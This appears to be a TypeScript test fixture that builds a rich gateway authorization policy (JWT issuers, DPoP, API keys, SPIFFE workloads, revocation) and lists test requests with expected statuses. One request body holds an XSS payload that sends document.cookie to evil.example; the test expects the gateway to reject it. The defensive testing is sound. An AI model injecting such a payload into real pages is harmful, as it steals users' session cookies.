import { createHash } from "node:crypto";
import { makeDpopClient } from "../harness/dpop.ts";
import { makeIssuer } from "../harness/issuer.ts";
import { type KeyServer, startKeyServer } from "../harness/key-server.ts";
import type { Ask } from "./ask.ts";
import { type ForeignPolicy, makeForeignPolicy } from "./foreign-policy.ts";

/** A policy with something of everything that a policy can say, and requests that tell the parts of it apart. */
export interface RichPolicy {
  readonly place: ForeignPolicy;
  /** Where one issuer's keys come from. */
  readonly keys: KeyServer;
  /** Is let in once a worker has that issuer's keys. */
  readonly byFetchedKey: Ask;
  /** What becomes of each: status and public reason. Proofs are of now. */
  visits(): Promise<readonly (readonly [Ask, status: number, reason: string])[]>;
}

const tillKey = "4d1c8f0e-till-7";
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");
const deadline = "deadline: 5s, onUnavailable: open";

const text = (keysUri: string, inline: string) => `
version: 1
mode: prevent
log: batched
listener: { tls: { certificate: { file: ./tls/server.pem }, key: { file: ./tls/server.key } } }
identity:
  issuers:
    - { name: shop, issuer: https://issuer.shop.example, audiences: [stock], algorithms: [RS256, ES256], jwks: { file: ./jwks.json } }
    - { name: far, issuer: https://far.example, audiences: [stock], algorithms: [ES256, PS256], jwks: { uri: "${keysUri}", refresh: 1h, maxAge: 72h } }
    - { name: partner, issuer: https://partner.example, audiences: [stock, stock-eu], algorithms: [HS256], secret: { file: ./tls/partner.secret }, clockSkew: 5s }
    - { name: mesh, trustDomain: edge.example, audiences: [stock], algorithms: [ES256], jwks: { inline: ${inline} } }
  workloads: { trustDomains: [edge.example], trustBundle: { file: ./tls/ca.pem }, forwardedFrom: [spiffe://edge.example/ns/mesh/sa/proxy] }
  dpop: { maxAge: 30s, origins: [https://stock.example] }
  apiKeys: { header: x-till-key, keys: [{ name: till-7, sha256: ${sha256(tillKey)}, expires: "2099-01-01T00:00:00Z", owner: shop-team }] }
  headers: { subject: x-user, workload: x-workload, claims: { level: x-level } }
  assertion: { issuer: https://gate.stock.example, audience: stock }
revocation: { file: ./lists/revoked.json, maxAge: 24h }
limits: { trustedHops: 1, perAddress: 500, perSubject: 500, window: 2m }
operators: [{ name: ada@example, tokenSha256: ${sha256("operator")} }]
routes:
  - { name: alive, owner: ops, match: { methods: [GET, HEAD], path: /alive }, public: true, score: off }
  - { name: login, match: { methods: [POST], path: /login }, public: true, login: true, score: { ${deadline} } }
  - { name: watch, match: { methods: [POST], path: /stock.v1.Stock/Watch }, allow: [{ issuer: far }], score: headers }
  - { name: live, match: { methods: [GET], path: /live }, public: true, score: headers }
  - name: shelves
    match: { hosts: [localhost, "*.stock.example"], methods: [GET, PUT], path: "/shelves/{id}" }
    ladder: { floor: detect, ceiling: prevent, promote: auto }
    allow:
      - { id: readers, owner: shop-team, issuer: shop, scopes: [stock:read], claims: { level: { atLeast: 3 } } }
      - { issuer: far, claims: { site: { prefix: north- } }, networks: ["127.0.0.0/8", "::1/128"] }
      - { issuer: partner }
      - { workloads: ["spiffe://edge.example/ns/stock/*"] }
      - { apiKeys: [till-7] }
      - { issuer: shop, expires: "2099-01-01T00:00:00Z", times: [{ days: [mon], from: "00:00", to: "00:01", offset: "+01:00" }] }
    deny: [{ id: lost, issuer: shop, claims: { device: { prefix: lost- } } }]
    onStaleRevocation: open
    score: { ${deadline} }
  - { name: ledger, match: { path: /ledger/** }, allow: [{ issuer: shop }], senderConstrained: dpop, stepUp: { acr: [phr], maxAge: 15m }, score: { ${deadline} } }
  - { name: signed, match: { methods: [GET], path: /signed }, allow: [{ issuer: shop }], assertion: true, score: off }
  - { name: notes, match: { methods: [POST], path: /notes/** }, public: true, evidence: values, score: { ${deadline}, ask: always, maxBody: 256KiB, onTooLarge: prefix, falsePositiveBudget: 0.1% } }
  - { name: rest, match: { path: /** }, allow: [{ issuer: shop, scopes: [admin] }], mode: detect, evidence: none }
`;

export async function makeRichPolicy(): Promise<RichPolicy> {
  const far = await makeIssuer("https://far.example", "stock", ["ES256", "PS256"]);
  const mesh = await makeIssuer("https://spire.example", "stock", ["ES256"]);
  const partner = await makeIssuer("https://partner.example", "stock");
  const keys = await startKeyServer(far.jwks);
  const place = await makeForeignPolicy(text(keys.uri, mesh.jwks), {
    "tls/partner.secret": partner.secret,
    "lists/revoked.json": JSON.stringify({ revocations: [{ jti: "lost", reason: "laptop lost" }] }),
  });
  const { shop } = place;
  const svid = (path: string) =>
    mesh.token("ES256", "x", { claims: { iss: "https://spire.example", sub: `spiffe://edge.example/${path}` } });
  const dpop = await makeDpopClient();
  const bound = await shop.token("ES256", "x", {
    claims: { cnf: { jkt: dpop.thumbprint }, acr: "phr", auth_time: Math.floor(Date.now() / 1000) },
  });
  const proof = () => dpop.proof("GET", "https://stock.example/ledger/1", bound);
  const reader = (claims: object) => shop.token("RS256", "stock:read", { claims: { level: 3, ...claims } });
  const shelf = "/shelves/7";
  const attack = JSON.stringify({ note: "<script>fetch('//evil.example/?c='+document.cookie)</script>" });
  const byFetchedKey = { path: shelf, token: await far.token("ES256", "x", { claims: { site: "north-2" } }) };
  return {
    place,
    keys,
    byFetchedKey,
    visits: async () => [
      [{ path: "/alive" }, 200, "ok"],
      [{ path: shelf }, 401, "unauthenticated"],
      [{ path: shelf, token: await reader({}) }, 200, "ok"],
      [{ path: shelf, token: await reader({ level: 2 }) }, 403, "forbidden"],
      [{ path: shelf, token: await reader({ device: "lost-3" }) }, 403, "forbidden"],
      [{ path: shelf, token: await reader({ jti: "lost" }) }, 401, "unauthenticated"],
      [byFetchedKey, 200, "ok"],
      [{ path: shelf, token: await far.token("PS256", "x", { claims: { site: "north-2" } }) }, 200, "ok"],
      [{ path: shelf, token: await far.token("ES256", "x", { claims: { site: "south" } }) }, 403, "forbidden"],
      [{ path: shelf, token: await partner.token("HS256", "x") }, 200, "ok"],
      [{ path: shelf, token: await svid("ns/stock/sa/robot") }, 200, "ok"],
      [{ path: shelf, token: await svid("ns/other") }, 403, "forbidden"],
      [{ path: shelf, robot: true }, 200, "ok"],
      [{ path: shelf, headers: { "x-till-key": tillKey } }, 200, "ok"],
      [{ path: shelf, headers: { "x-till-key": "guessed" } }, 401, "unauthenticated"],
      [{ path: "/ledger/1", token: bound }, 401, "unauthenticated"],
      [{ path: "/ledger/1", headers: { authorization: `DPoP ${bound}`, dpop: await proof() } }, 200, "ok"],
      [{ path: "/signed", token: await reader({}) }, 200, "ok"],
      [{ path: "/live?q=tea" }, 200, "ok"],
      [{ path: "/notes/a", body: JSON.stringify({ note: "two boxes, please" }) }, 200, "ok"],
      [{ path: "/notes/a", body: attack }, 403, "request_rejected"],
      [{ path: "/login", body: JSON.stringify({ user: "kim" }) }, 200, "ok"],
      [{ path: "/nowhere" }, 401, "unauthenticated"],
    ],
  };
}
